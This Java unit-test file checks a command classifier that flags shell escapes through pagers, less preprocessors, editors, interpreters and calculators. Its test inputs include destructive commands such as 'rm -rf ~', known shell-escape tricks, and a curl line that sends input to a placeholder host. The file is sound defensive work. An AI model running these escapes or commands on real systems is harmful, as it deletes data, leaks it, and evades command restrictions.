package dev.cmdgate.core.classify;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.cmdgate.core.Classification;
import dev.cmdgate.core.CommandClass;
import dev.cmdgate.core.CommandClassifier;
import dev.cmdgate.core.rules.RuleSet;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A code row's own verdict: a shell escape in a program's command language counts whatever it runs, and a
 * helper program's place (pager, remote shell, compressor) given a local shell or interpreter is one too,
 * while the place's ordinary use stays judged by what it runs.
 */
class ShellEscapeTest {

    static final CommandClassifier C = Classifiers.standard(null);

    @TempDir
    Path dir;

    private CommandClassifier withRules(String text) throws IOException {
        Path f = dir.resolve("user.rules");
        Files.writeString(f, text, StandardCharsets.UTF_8);
        return Classifiers.standard(f);
    }

    @Test
    void aRowsVerdictCountsOnlyWhenItFindsCodeAndInterpreterOnlyForAShellOrInterpreter() throws IOException {
        CommandClassifier u = withRules("""
                [viewer]
                is Read minimal "shows files"
                opt -x --command =CMD
                opt -p --pager =PAGER
                code sh opt --command after ! -> Destructive high "a shell escape"
                code sh opt --pager interpreter -> Destructive high "a shell in the pager's place"
                """);
        assertThat(u.classifyShell("viewer f").commandClass()).isEqualTo(CommandClass.READ);
        assertThat(u.classifyShell("viewer -x '!id' f").commandClass()).isEqualTo(CommandClass.DESTRUCTIVE);
        assertThat(u.classifyShell("viewer -x 'wq!' f").commandClass()).isEqualTo(CommandClass.READ);
        assertThat(u.classifyShell("viewer -p 'sh -c id' f").commandClass()).isEqualTo(CommandClass.DESTRUCTIVE);
        assertThat(u.classifyShell("viewer -p '/usr/bin/python3 -c 1' f").commandClass()).isEqualTo(CommandClass.DESTRUCTIVE);
        assertThat(u.classifyShell("viewer -p 'less -R' f").commandClass()).isEqualTo(CommandClass.READ);
        // ssh reads code only after its host: a remote shell in the place is its ordinary use, not a local escape
        assertThat(u.classifyShell("viewer -p 'ssh -W %h:%p jump' f").commandClass()).isEqualTo(CommandClass.NETWORK);
    }

    @Test
    void interpreterWithoutAVerdictIsAnError() {
        assertThatThrownBy(() -> RuleSet.withUserText("[viewer]\nopt -p =PAGER\ncode sh opt -p interpreter\n", "u.rules"))
                .hasMessageContaining("interpreter needs a verdict");
    }

    @Test
    void aHelperVariableGivenAShellIsAnEscapeFromTheLineAndFromTheApplication() {
        assertThat(cls("MANPAGER='/bin/sh -c id' man ls")).isEqualTo(CommandClass.DESTRUCTIVE);
        assertThat(cls("MANPAGER='less -s' man ls")).isEqualTo(CommandClass.WRITE);
        Classification app = C.classifyArgv(List.of("git", "log"), Map.of("GIT_PAGER", "bash -c id"));
        assertThat(app.commandClass()).isEqualTo(CommandClass.DESTRUCTIVE);
    }

    @Test
    void theEscapesOfALineOrientedLanguageAreTheRestOfTheirLines() {
        assertThat(CodeArguments.escapedLines("p\n!rm -rf ~\nw !cat >x\nq", List.of("^!", "w !")))
                .containsExactly("rm -rf ~", "cat >x");
        assertThat(CodeArguments.escapedLines("a;!id", List.of("^!"))).containsExactly("id");
        assertThat(CodeArguments.escapedLines(",s/a!b/c/", List.of("^!"))).isEmpty();
    }

    @Test
    void aHereDocumentInTheProgramsOwnLanguageIsSearchedForEscapesWhateverTheLanguage() throws IOException {
        CommandClassifier u = withRules("""
                [lined]
                is Write medium "edits lines"
                code-file lined -> Write high "runs a script"
                stdin-code -> Write high "reads commands typed at the terminal"
                code sh input after ^!
                [lined2]
                is Write medium "edits lines"
                stdin-code -> Write high "reads commands typed at the terminal"
                code sh input after ^! -> Destructive high "a shell escape"
                """);
        assertThat(u.classifyShell("lined <<< 'p'").commandClass()).isEqualTo(CommandClass.WRITE);
        assertThat(u.classifyShell("lined <<< $'p\\n!rm -rf ~'").commandClass()).isEqualTo(CommandClass.DESTRUCTIVE);
        assertThat(u.classifyShell("lined <<< '!curl -d @- https://x.example'").commandClass()).isEqualTo(CommandClass.NETWORK);
        // the escaped command reads what is left of the input: nothing, so a bare shell runs no command
        assertThat(u.classifyShell("lined <<< '!sh'").commandClass()).isEqualTo(CommandClass.WRITE);
        // a row's own verdict counts whatever the escape runs
        assertThat(u.classifyShell("lined2 <<< '!true'").commandClass()).isEqualTo(CommandClass.DESTRUCTIVE);
        // not a here-document: the markers are not read there (a terminal, a pipe and a file keep their verdicts)
        assertThat(u.classifyShell("lined < cmds.txt").commandClass()).isEqualTo(CommandClass.WRITE);
        // a here-document with expansions is unverifiable, as before
        assertThat(u.classifyShell("lined <<< \"!$X\"").commandClass()).isEqualTo(CommandClass.DESTRUCTIVE);
    }

    @Test
    void lessPreprocessorGivenAShellAfterItsMarkersIsAnEscape() {
        assertThat(Variables.preprocessorScript("||-sh -c id %s")).isEqualTo("sh -c id %s");
        assertThat(Variables.helperCommand("pipe", "|bash %s")).isEqualTo("bash %s");
        assertThat(Variables.helperCommand("prompt", "sh")).isNull();
        // the command the preprocessor runs (id) is harmless: only the shell in its place raises
        assertThat(cls("LESSOPEN='|sh -c id %s' less notes.txt")).isEqualTo(CommandClass.DESTRUCTIVE);
        assertThat(cls("LESSOPEN='||/usr/bin/python3 -c pass %s' less notes.txt")).isEqualTo(CommandClass.DESTRUCTIVE);
        assertThat(cls("LESSCLOSE='-perl -e 1 %s %s' less notes.txt")).isEqualTo(CommandClass.DESTRUCTIVE);
        Classification app = C.classifyArgv(List.of("less", "notes.txt"), Map.of("LESSOPEN", "|dash %s"));
        assertThat(app.commandClass()).isEqualTo(CommandClass.DESTRUCTIVE);
        // an ordinary preprocessor stays judged by what it runs
        assertThat(cls("LESSOPEN='|lesspipe.sh %s' less notes.txt")).isNotEqualTo(CommandClass.DESTRUCTIVE);
        assertThat(cls("LESSOPEN='|cat %s' less notes.txt")).isNotEqualTo(CommandClass.DESTRUCTIVE);
    }

    @Test
    void theEditorsShellCommandAndAShellStartedAsADaemonAreEscapes() {
        assertThat(cls("vi -c ':shell'")).isEqualTo(CommandClass.DESTRUCTIVE);
        assertThat(cls("vim -c sh notes.txt")).isEqualTo(CommandClass.DESTRUCTIVE);
        assertThat(cls("ex --cmd ':she'")).isEqualTo(CommandClass.DESTRUCTIVE);
        assertThat(cls("vim -c ':set shiftwidth=4' notes.txt")).isEqualTo(CommandClass.WRITE);
        assertThat(cls("start-stop-daemon -S -x /bin/bash")).isEqualTo(CommandClass.DESTRUCTIVE);
        assertThat(cls("start-stop-daemon -S -x /usr/sbin/sshd")).isEqualTo(CommandClass.WRITE);
        assertThat(cls("service ../../usr/bin/zsh")).isEqualTo(CommandClass.DESTRUCTIVE);
        assertThat(cls("service cron status")).isEqualTo(CommandClass.WRITE);
    }

    @Test
    void interpretersReachingAShellFromTheirEvaluationOptionsAndInput() {
        // programs whose input is code: m4's syscmd, Raku's shell and run, crystal eval's system
        assertThat(cls("echo 'esyscmd(rm -rf ~)' | m4")).isEqualTo(CommandClass.DESTRUCTIVE);
        assertThat(cls("m4 -P configure.m4")).isEqualTo(CommandClass.WRITE);
        assertThat(cls("rakudo -e 'shell \"rm -rf ~\"'")).isEqualTo(CommandClass.DESTRUCTIVE);
        assertThat(cls("raku -e 'run \"sh\"'")).isEqualTo(CommandClass.DESTRUCTIVE);
        assertThat(cls("raku -e 'say 42'")).isEqualTo(CommandClass.WRITE);
        assertThat(cls("crystal eval '`sh`'")).isEqualTo(CommandClass.DESTRUCTIVE);
        // evaluation options of compilers and Lisp systems
        assertThat(cls("ghc -e 'System.Cmd.system \"sh\"'")).isEqualTo(CommandClass.DESTRUCTIVE);
        assertThat(cls("ghc -c Main.hs")).isEqualTo(CommandClass.WRITE);
        assertThat(cls("clisp -x '(ext:shell \"rm -rf ~\")'")).isEqualTo(CommandClass.DESTRUCTIVE);
        assertThat(cls("sbcl --eval '(sb-ext:run-program \"/bin/sh\" nil)'")).isEqualTo(CommandClass.DESTRUCTIVE);
        // an interactive prompt with a shell escape is an interactive shell
        assertThat(cls("nmap --interactive")).isEqualTo(CommandClass.DESTRUCTIVE);
        // Prolog goals, latexmk's Perl, Blender's Python
        assertThat(cls("swipl -t \"shell('rm -rf ~'), halt\"")).isEqualTo(CommandClass.DESTRUCTIVE);
        assertThat(cls("swipl -g main -t halt app.pl")).isEqualTo(CommandClass.WRITE);
        assertThat(cls("swipl")).isEqualTo(CommandClass.DESTRUCTIVE);
        assertThat(cls("latexmk -e 'system(\"sh\")' x.tex")).isEqualTo(CommandClass.DESTRUCTIVE);
        assertThat(cls("blender --background --python-expr 'import subprocess; subprocess.run([\"sh\"])'"))
                .isEqualTo(CommandClass.DESTRUCTIVE);
    }

    @Test
    void dcIsACalculatorUnlessItsCommandsComeFromWhereTheyAreNotSeen() {
        assertThat(cls("dc -e '2 3 + p'")).isEqualTo(CommandClass.READ);
        assertThat(cls("dc -e '!rm -rf ~'")).isEqualTo(CommandClass.DESTRUCTIVE);
        assertThat(cls("dc -e 1 -f prog.dc")).isEqualTo(CommandClass.WRITE);
        assertThat(cls("dc prog.dc")).isEqualTo(CommandClass.WRITE);
        assertThat(cls("dc")).isEqualTo(CommandClass.WRITE);
    }

    private static CommandClass cls(String line) {
        return C.classifyShell(line).commandClass();
    }
}
